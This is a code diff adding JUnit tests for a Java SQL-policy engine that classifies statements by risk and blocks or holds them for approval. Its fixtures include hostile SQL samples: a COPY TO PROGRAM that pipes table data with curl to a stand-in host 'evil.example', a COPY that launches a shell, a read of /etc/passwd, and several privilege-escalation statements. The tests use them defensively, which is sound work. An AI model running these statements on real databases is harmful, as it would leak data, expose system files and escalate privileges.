@@ -3,8 +3,14 @@ package dev.tracegate.policy.rules;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import dev.tracegate.policy.sql.SqlClassification;
 import dev.tracegate.policy.sql.SqlClassifier;
+import dev.tracegate.policy.sql.StatementClass;
 import java.time.Duration;
+import java.util.Arrays;
+import java.util.EnumMap;
+import java.util.List;
+import java.util.Map;
 import java.util.Set;
 import org.junit.jupiter.api.Test;
 
@@ -18,7 +24,7 @@ class PolicyEngineTest {
             rules:
               - name: hold-ddl
                 connections: [shop]
-                classes: [ddl]
+                minClass: ddl
                 exceptGroups: [dba]
                 action: approve
                 approvers: [dba]
@@ -119,5 +125,127 @@ class PolicyEngineTest {
                 .isInstanceOf(PolicyException.class).hasMessageContaining("cannot be allow");
         assertThatThrownBy(() -> PolicyParser.parse("rules:\n  - name: x\n    command: '(unclosed'\n    action: block\n"))
                 .isInstanceOf(PolicyException.class).hasMessageContaining("regular expression");
+    }
+
+    /** Real statements of every class, checked to classify so: the threshold test below cannot pass vacuously. */
+    private static final Map<StatementClass, List<String>> EXAMPLES = new EnumMap<>(Map.of(
+            StatementClass.TRANSACTION, List.of("BEGIN", "ROLLBACK TO SAVEPOINT s"),
+            StatementClass.SESSION, List.of("SET application_name = 'report'", "SHOW search_path"),
+            StatementClass.READ, List.of("SELECT * FROM orders WHERE id = 7",
+                    "WITH d AS (WITH x AS (SELECT 1) SELECT * FROM x) SELECT * FROM d"),
+            StatementClass.WRITE, List.of("UPDATE orders SET status = 'paid' WHERE id = 7", "INSERT INTO orders VALUES (1)"),
+            StatementClass.BULK_WRITE, List.of("DELETE FROM orders",
+                    "WITH d AS (WITH x AS (SELECT 1) DELETE FROM orders RETURNING 1) SELECT count(*) FROM d"),
+            StatementClass.DDL, List.of("ALTER TABLE orders ADD COLUMN note text", "DROP TABLE orders"),
+            StatementClass.PRIVILEGE, List.of(
+                    "ALTER TABLE orders ADD COLUMN x text, OWNER TO CURRENT_USER",
+                    "CREATE FUNCTION f() RETURNS void LANGUAGE sql SECURITY DEFINER AS $$ UPDATE orders SET status = 'x' $$",
+                    "ALTER ROLE CURRENT_USER SET search_path = evil",
+                    "DROP OWNED BY CURRENT_USER",
+                    "REASSIGN OWNED BY CURRENT_USER TO evil",
+                    "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC",
+                    "GRANT ALL ON orders TO PUBLIC",
+                    "ALTER SCHEMA public OWNER TO evil",
+                    "CREATE POLICY p ON orders USING (true)",
+                    "ALTER TABLE orders ADD COLUMN y int, DISABLE ROW LEVEL SECURITY"),
+            StatementClass.DANGEROUS_ADMIN, List.of("COPY orders TO PROGRAM 'curl -d @- http://evil.example'",
+                    "SELECT pg_read_file('/etc/passwd')"),
+            StatementClass.UNKNOWN, List.of("DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$", "CALL cleanup()")));
+
+    @Test
+    void everyClassAtOrAboveAMinClassThresholdIsCaught() {
+        assertThat(EXAMPLES.keySet()).as("an example for every class").containsExactlyInAnyOrder(StatementClass.values());
+        EXAMPLES.forEach((statementClass, statements) -> statements.forEach(sql ->
+                assertThat(classifier.classify(sql).highestRisk()).as(sql).isEqualTo(statementClass)));
+        for (StatementClass threshold : StatementClass.values()) {
+            Policy atLeast = PolicyParser.parse("""
+                    defaults: {action: allow, highRisk: approve, approvers: [security]}
+                    rules:
+                      - {name: at-least, minClass: %s, action: block}
+                    """.formatted(threshold.name().toLowerCase()));
+            EXAMPLES.forEach((statementClass, statements) -> statements.forEach(sql -> {
+                Decision decision = PolicyEngine.decide(atLeast, analyst, classifier.classify(sql));
+                if (statementClass.isAtLeast(threshold)) {
+                    assertThat(decision.action()).as("minClass %s on %s: %s", threshold, statementClass, sql)
+                            .isEqualTo(Action.BLOCK);
+                    assertThat(decision.rule()).isEqualTo("at-least");
+                } else {
+                    assertThat(decision.action()).as("minClass %s on %s: %s", threshold, statementClass, sql)
+                            .isEqualTo(Action.ALLOW);
+                }
+            }));
+        }
+    }
+
+    @Test
+    void aRuleListingClassesMatchesOnlyThoseClasses() {
+        Policy exact = PolicyParser.parse("rules: [{name: ddl-only, classes: [ddl], action: block}]");
+        assertThat(PolicyEngine.decide(exact, analyst, classifier.classify("DROP TABLE orders")).action())
+                .isEqualTo(Action.BLOCK);
+        // PRIVILEGE is above DDL, but it is not listed: this is what minClass is for.
+        assertThat(PolicyEngine.decide(exact, analyst, classifier.classify("DROP OWNED BY CURRENT_USER")).action())
+                .isEqualTo(Action.ALLOW);
+    }
+
+    @Test
+    void theShopPolicyHoldsPrivilegeChangesAndBlocksWhatItCannotClassify() {
+        for (String sql : EXAMPLES.get(StatementClass.PRIVILEGE)) {
+            Decision decision = decide(analyst, sql);
+            assertThat(decision.action()).as(sql).isEqualTo(Action.APPROVE);
+            assertThat(decision.rule()).isEqualTo("hold-ddl");
+            assertThat(decision.statementClass()).isEqualTo(StatementClass.PRIVILEGE);
+        }
+        // hold-ddl matches these too, but a rule that does not name their class cannot weaken highRisk: block.
+        for (StatementClass top : List.of(StatementClass.DANGEROUS_ADMIN, StatementClass.UNKNOWN)) {
+            for (String sql : EXAMPLES.get(top)) {
+                Decision decision = decide(analyst, sql);
+                assertThat(decision.action()).as(sql).isEqualTo(Action.BLOCK);
+                assertThat(decision.rule()).isEqualTo("default:high-risk");
+            }
+        }
+    }
+
+    @Test
+    void onlyARuleNamingAHighRiskClassDecidesWithoutTheHighRiskDefault() {
+        Policy policy = PolicyParser.parse("""
+                defaults: {action: allow, highRisk: block}
+                rules:
+                  - {name: dbas-run-anything, groups: [dba], action: allow}
+                  - {name: hold-at-least-ddl, minClass: ddl, action: approve, approvers: [dba]}
+                  - {name: dbas-may-ask-for-unknown, groups: [dba], classes: [unknown], action: approve, approvers: [security]}
+                """);
+        SqlClassification copy = classifier.classify("COPY orders TO PROGRAM 'sh'");
+        assertThat(PolicyEngine.decide(policy, dba, copy).action()).isEqualTo(Action.BLOCK);
+        assertThat(PolicyEngine.decide(policy, dba, copy).rule()).isEqualTo("default:high-risk");
+        Decision unknown = PolicyEngine.decide(policy, dba, classifier.classify("CALL cleanup()"));
+        assertThat(unknown.action()).isEqualTo(Action.APPROVE);
+        assertThat(unknown.approval().approverGroups()).isNotEmpty();
+        assertThat(PolicyEngine.decide(policy, analyst, classifier.classify("CALL cleanup()")).action())
+                .isEqualTo(Action.BLOCK);
+        Policy approveHighRisk = PolicyParser.parse("""
+                defaults: {action: allow, highRisk: approve, approvers: [security]}
+                rules:
+                  - {name: hold-at-least-ddl, minClass: ddl, action: approve, approvers: [dba]}
+                """);
+        Decision tie = PolicyEngine.decide(approveHighRisk, analyst, copy);
+        assertThat(tie.action()).isEqualTo(Action.APPROVE);
+        assertThat(tie.rule()).as("on a tie the rule decides, with its approvers").isEqualTo("hold-at-least-ddl");
+        assertThat(tie.approval().approverGroups()).containsExactly("dba");
+    }
+
+    @Test
+    void minClassMistakesAreRefusedWithTheirPlace() {
+        assertThatThrownBy(() -> PolicyParser.parse("rules: [{name: both, classes: [ddl], minClass: privilege, action: block}]"))
+                .isInstanceOf(PolicyException.class).hasMessageContaining("rule both")
+                .hasMessageContaining("classes and minClass cannot be combined");
+        assertThatThrownBy(() -> PolicyParser.parse("rules: [{name: typo, minClass: dll, action: block}]"))
+                .isInstanceOf(PolicyException.class).hasMessageContaining("rule typo: minClass").hasMessageContaining("dll");
+        assertThatThrownBy(() -> PolicyParser.parse("""
+                masking: {profiles: {p: {}}}
+                rules: [{name: m, minClass: ddl, mask: p}]
+                """)).isInstanceOf(PolicyException.class).hasMessageContaining("minClass");
+        assertThat(Arrays.stream(StatementClass.values()).map(c -> PolicyParser.parse(
+                "rules: [{name: r, minClass: " + c.name().toLowerCase() + ", action: block}]").rules().getFirst().minClass()))
+                .containsExactly(StatementClass.values());
     }
 }
